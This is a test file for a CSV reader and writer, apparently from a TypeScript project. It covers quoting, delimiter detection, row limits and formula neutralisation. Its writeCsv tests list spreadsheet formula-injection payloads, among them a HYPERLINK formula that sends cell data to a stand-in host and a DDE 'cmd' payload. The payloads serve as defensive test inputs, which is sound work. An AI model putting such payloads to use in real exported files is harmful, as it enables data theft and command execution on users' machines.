import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectDelimiter, neutralizeFormula, readCsv, restoreFormula, writeCsv } from '../../../src/lib/io/csv';

describe('readCsv', () => {
  it('strips a BOM, reads quotes, commas and multi-line fields, and numbers lines', () => {
    const text = '\uFEFFa,b,c\r\n1,"x, ""y""\nz",3\r\n4,5,6\n';
    const read = readCsv(text);
    expect(read.delimiter).toBe(',');
    expect(read.records).toEqual([
      { line: 1, fields: ['a', 'b', 'c'] },
      { line: 2, fields: ['1', 'x, "y"\nz', '3'] },
      { line: 4, fields: ['4', '5', '6'] },
    ]);
    expect(read.problems).toEqual([]);
  });

  it('reports ragged rows with the line where the record starts and keeps the others', () => {
    const read = readCsv('a,b\n"multi\nline",2\n1,2,3\n4\n5,6');
    expect(read.records.map((r) => r.fields)).toEqual([
      ['a', 'b'],
      ['multi\nline', '2'],
      ['5', '6'],
    ]);
    expect(read.problems).toEqual([
      { line: 4, message: 'expected 2 fields, found 3' },
      { line: 5, message: 'expected 2 fields, found 1' },
    ]);
  });

  it('detects semicolon and tab delimiters from the header line only', () => {
    expect(detectDelimiter('a;b;c\n1,5;2,5;3')).toBe(';');
    expect(detectDelimiter('a\tb\tc\n1,2')).toBe('\t');
    expect(detectDelimiter('"a;b",c\n')).toBe(',');
    expect(readCsv('a;b\n"x;y";2', {}).records[1]!.fields).toEqual(['x;y', '2']);
    expect(readCsv('a;b\n1;2', { delimiter: ',' }).records[1]!.fields).toEqual(['1;2']);
  });

  it('skips empty lines but keeps a quoted empty record', () => {
    expect(readCsv('a\n\n1\n\n').records.map((r) => r.line)).toEqual([1, 3]);
    expect(readCsv('a\n""\n').records.map((r) => r.fields)).toEqual([['a'], ['']]);
  });

  it('refuses an unclosed quote and text after a closing quote, per record', () => {
    expect(readCsv('a,b\n"x"y,1\n2,3').problems).toEqual([
      { line: 2, message: 'unexpected text after a closing quote' },
    ]);
    const open = readCsv('a,b\n1,2\n"never closed,3\n4,5');
    expect(open.records).toHaveLength(2);
    expect(open.problems).toEqual([{ line: 3, message: 'a quoted field is never closed' }]);
  });

  it('caps rows and columns with clear messages', () => {
    expect(readCsv('a\n1\n2\n3', { maxRows: 2 }).fatal).toBe('the file has more than 2 data rows; the limit is 2');
    expect(readCsv('a\n1\n2', { maxRows: 2 }).fatal).toBeNull();
    const wide = Array.from({ length: 201 }, (_, i) => `c${i}`).join(',');
    expect(readCsv(`${wide}\n`).fatal).toBe('line 1: more than 200 columns; the limit is 200');
    const ok = readCsv(`a,b\n${Array.from({ length: 300 }, () => 'x').join(',')}\n1,2`);
    expect(ok.problems).toEqual([{ line: 2, message: 'expected 2 fields, found more than 200' }]);
  });

  it('counts lone CR and CRLF inside quotes as one line each', () => {
    const read = readCsv('a,b\r\n"1\r\n2\r3",x\r\n4,5');
    expect(read.records[2]).toEqual({ line: 5, fields: ['4', '5'] });
  });
});

describe('writeCsv', () => {
  const INJECTIONS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
  ];

  it.each(INJECTIONS)('prefixes the formula trigger in %j with a quote', (cell) => {
    const out = writeCsv([[cell, -12.5]]);
    const back = readCsv(out).records[0]!.fields;
    expect(back[0]).toBe(`'${cell}`);
    expect(back[1]).toBe('-12.5');
    expect(restoreFormula(back[0]!)).toBe(cell);
  });

  it('quotes only when needed and ends lines with CRLF', () => {
    expect(writeCsv([['a', 'b,c', 'd"e', 'f\ng', 1, true, null, undefined, Number.NaN]])).toBe(
      'a,"b,c","d""e","f\ng",1,true,,,\r\n',
    );
    expect(writeCsv([['a;b', 'c']], ';')).toBe('"a;b";c\r\n');
  });

  it('makes the quote prefix reversible, even for text that already starts with quotes', () => {
    for (const text of ["'=x", "''@y", "'plain", 'plain', "'", ''])
      expect(restoreFormula(neutralizeFormula(text))).toBe(text);
    expect(neutralizeFormula("'=x")).toBe("''=x");
    expect(neutralizeFormula("'plain")).toBe("'plain");
  });

  it('keeps a first cell that starts with U+FEFF (a byte-order mark would be dropped on reading)', () => {
    const rows = [['\ufeff'], ['a\ufeff']];
    const text = writeCsv(rows);
    expect(text.startsWith('"\ufeff"')).toBe(true);
    expect(readCsv(text, { delimiter: ',' }).records.map((r) => r.fields)).toEqual(rows);
    // A real byte-order mark before the first record is still skipped.
    expect(readCsv(`\ufeff${text}`, { delimiter: ',' }).records.map((r) => r.fields)).toEqual(rows);
  });

  it('round-trips any table of text through write and read (with the formula rule undone)', () => {
    const cell = fc.string({ unit: 'binary', maxLength: 12 });
    fc.assert(
      fc.property(
        fc
          .integer({ min: 1, max: 5 })
          .chain((w) => fc.array(fc.array(cell, { minLength: w, maxLength: w }), { minLength: 1, maxLength: 6 })),
        (rows) => {
          // A record of one empty field is a blank line, which the reader skips by design.
          fc.pre(rows.every((r) => r.length > 1 || r[0] !== ''));
          const read = readCsv(writeCsv(rows), { delimiter: ',' });
          expect(read.problems).toEqual([]);
          expect(read.records.map((r) => r.fields.map(restoreFormula))).toEqual(rows);
        },
      ),
      { numRuns: 300 },
    );
  }, 60_000);
});
